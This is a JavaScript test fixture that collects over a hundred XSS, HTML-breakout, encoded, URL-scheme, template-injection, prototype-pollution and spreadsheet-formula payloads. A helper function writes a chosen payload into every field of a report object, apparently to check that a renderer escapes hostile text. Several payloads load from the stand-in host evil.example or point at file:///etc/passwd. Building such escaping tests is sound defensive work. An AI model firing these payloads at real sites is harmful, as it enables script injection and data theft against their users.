// Texts that have made other pages run something: own wording of the known families. Each would set `window.__x`, open a
// dialog or ask a server if any part of it were ever taken for markup, an address, a style or a script.

const RUN = 'window.__x=1';
const FAR = 'https://evil.example/x';

/** Elements that run or load by themselves, with the handlers that fire without a click. */
const ELEMENTS = [
  `<script>${RUN}</script>`, `<script src=${FAR}></script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script/x>${RUN}</script>`, `<script\n>${RUN}</script\n>`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`, `<img src=x onerror='${RUN}'>`, '<img src=x onerror=`window.__x=1`>', `<IMG SRC=x ONERROR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`, `<img\tsrc=x\tonerror=${RUN}>`, `<img\nsrc=x\nonerror=${RUN}>`, `<img\fsrc=x\fonerror=${RUN}>`, `<img src=x onerror\x00=${RUN}>`, `<img src=${FAR}>`, `<img srcset="${FAR} 1x">`,
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`, `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`, `<svg><image href=${FAR}></svg>`, `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.__x=1</script>"></iframe>`, `<iframe src=${FAR}></iframe>`, `<iframe onload=${RUN}></iframe>`,
  `<object data="javascript:${RUN}"></object>`, `<object data=${FAR}></object>`, `<embed src="javascript:${RUN}">`, `<embed src=${FAR}>`, `<applet code=${FAR}></applet>`,
  `<video src=x onerror=${RUN}></video>`, `<video><source onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}></audio>`, `<video poster=${FAR}></video>`, `<track src=${FAR} onerror=${RUN}>`,
  `<body onload=${RUN}>`, `<body onpageshow=${RUN}>`, `<body background=${FAR}>`, `<html onmouseover=${RUN}>`, `<frameset onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}>`, `<button autofocus onfocus=${RUN}>x</button>`, `<a href=# autofocus onfocus=${RUN} tabindex=0>x</a>`,
  `<details open ontoggle=${RUN}>x</details>`, `<marquee onstart=${RUN}>x</marquee>`, `<div onpointerrawupdate=${RUN} style="position:fixed;inset:0">x</div>`, `<div contenteditable autofocus onfocus=${RUN}>x</div>`, `<dialog open onclose=${RUN}>x</dialog>`,
  `<style>@import '${FAR}';</style>`, `<style>*{background:url(${FAR})}</style>`, `<link rel=stylesheet href=${FAR}>`, `<link rel=preload as=image href=${FAR}>`, `<link rel=icon href=${FAR}>`, `<div style="background:url(${FAR})">x</div>`, `<div style="width:expression(${RUN})">x</div>`, `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${RUN}></p>`, `<p style="transition:all 1s" ontransitionend=${RUN}>x</p>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv=refresh content="0;url=${FAR}">`, `<base href=${FAR}/>`, `<base target="_blank" href="javascript:${RUN}//">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`, `<form id=f></form><button form=f formaction="javascript:${RUN}">x</button>`, `<isindex type=image src=1 onerror=${RUN}>`, `<input type=image src=x onerror=${RUN}>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`, `<math href="javascript:${RUN}">x</math>`, `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<template><script>${RUN}</script></template>`, `<template shadowrootmode=open><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`, `<xmp><img src=x onerror=${RUN}></xmp>`, `<plaintext><img src=x onerror=${RUN}>`,
  `<portal src="javascript:${RUN}"></portal>`, `<x onclick=${RUN} autofocus tabindex=1 onfocus=${RUN}>x</x>`, `<gongkai-view src="${FAR}"></gongkai-view>`, `<gongkai-form onfocus=${RUN}></gongkai-form>`, `<slot onslotchange=${RUN}></slot>`,
];

/** Ways out of where a text stands: attribute, text-only element, comment, CDATA, table. */
const BREAKOUTS = [
  `"><img src=x onerror=${RUN}>`, `'><img src=x onerror=${RUN}>`, '`><img src=x onerror=window.__x=1>', `" onmouseover="${RUN}`, `' onfocus='${RUN}' autofocus='`, `" autofocus onfocus=${RUN} x="`, `" style="background:url(${FAR})`,
  `</title><script>${RUN}</script>`, `</textarea><img src=x onerror=${RUN}>`, `</style><script>${RUN}</script>`, `</script><script>${RUN}</script>`, `</noscript><img src=x onerror=${RUN}>`, `</option></select><img src=x onerror=${RUN}>`, `</td></tr></table><img src=x onerror=${RUN}>`, `</svg><img src=x onerror=${RUN}>`, `</p><script>${RUN}</script><p>`,
  `--><img src=x onerror=${RUN}><!--`, `--!><img src=x onerror=${RUN}>`, `<!--><img src=x onerror=${RUN}>-->`, `<![CDATA[<img src=x onerror=${RUN}>]]>`, `]]><img src=x onerror=${RUN}>`, `<?xml-stylesheet href="javascript:${RUN}"?>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "${FAR}">]>&y;`,
  `<noscript><style></noscript><img src=x onerror=${RUN}>`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, `<a title="</a><img src=x onerror=${RUN}>">`,
];

/** Written otherwise: entities, escapes, other widths, marks that turn or hide. */
const ENCODED = [
  `&lt;img src=x onerror=${RUN}&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `&#x3c;img src=x onerror=${RUN}&#x3e;`, `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cimg src=x onerror=${RUN}\\u003e`, `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`, `＜script＞${RUN}＜/script＞`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`, `<\u200bscript>${RUN}</script>`, `\ufeff<script>${RUN}</script>`, `<img src=x onerror=${RUN}\u2028>`, `\u202e<img src=x onerror=${RUN}>\u202c`, `<img src=x one\u017frror=${RUN}>`, `<ſcript>${RUN}</ſcript>`, `\u2066${RUN}\u2069`,
];

/** Addresses. */
const LINKS = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0001javascript:${RUN}`, `javascript&colon;${RUN}`, `javascript://%0a${RUN}`, `vbscript:msgbox(1)`, `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194PTE8L3NjcmlwdD4=`, `//evil.example/x`, `\\\\evil.example\\x`, `blob:https://evil.example/x`, `file:///etc/passwd`, `https:javascript:${RUN}`, `http://evil.example@localhost/`, `feed:javascript:${RUN}`, `view-source:javascript:${RUN}`,
];

/** Templates, styles, objects, formulas: what other readers of a text would run. */
const OTHERS = [
  `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `[[${RUN}]]`, `');${RUN};//`, `";${RUN};//`, `\`;${RUN};//`, `'-${RUN}-'`, `__proto__`, `constructor`, `{"__proto__":{"__x":1}}`, `toString`, `url(${FAR})`, `expression(${RUN})`, `@import url(${FAR});`, `red;background:url(${FAR})`,
  `=HYPERLINK("${FAR}")`, `=cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `@SUM(1)`, `-2+3`, `\t=1+1`, `\r=1+1`, `＝1+1`,
];

/** At least 120 of them, none twice. */
export const PAYLOADS = [...new Set([...ELEMENTS, ...BREAKOUTS, ...ENCODED, ...LINKS, ...OTHERS])];

/** The report with `text` wherever a file can hold one. A number in front keeps a text from being empty or a number. */
export function poisoned(report, text) {
  const bad = structuredClone(report);
  for (const key of ['title', 'org', 'level', 'published', 'period', 'contact', 'source_url', 'note']) bad.meta[key] = text;
  for (const key of Object.keys(bad.narrative)) if (typeof bad.narrative[key] === 'string') bad.narrative[key] = `一、二、${text}`;
  for (const key of ['intro', 'part1', 'part5', 'part6']) bad.narrative[key] = text;
  const cells = (value) => {
    if (Array.isArray(value)) return value.map(cells);
    if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([key, part]) => [key, key === 'columns' || key === 'order' ? part : cells(part)]));
    return typeof value === 'number' || value === null ? text : value;
  };
  bad.table2 = cells(bad.table2);
  bad.table3 = { ...bad.table3, rows: cells(bad.table3.rows) };
  bad.table4 = cells(bad.table4);
  bad.answers = { 'T3-SUM@table3.done_total.natural': text };
  bad.labels = { 'table3.denied_2': text, 'table3.new': text };
  bad[text.slice(0, 40) || 'x'] = text;
  return bad;
}
